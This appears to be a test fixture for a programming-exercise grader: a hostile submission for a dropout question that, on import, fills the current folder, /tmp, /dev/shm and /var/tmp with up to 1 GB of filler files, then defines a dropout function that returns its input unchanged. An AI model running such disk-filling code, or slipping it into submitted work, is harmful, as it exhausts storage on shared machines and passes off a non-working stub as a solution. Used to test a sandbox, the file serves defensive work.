# Fills every folder that it can write to (here: 1 GB in all).
# question: 02_dropout/1_dropout
# fails: all
import os

left = 1 << 30
for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
    for number in range(16):
        try:
            with open(f"{folder}/filler{number}", "wb") as file:
                for _ in range(16):
                    if left > 0:
                        left -= file.write(bytes(4 << 20))
        except OSError:
            break


def dropout(x, rate, training, seed):
    return x
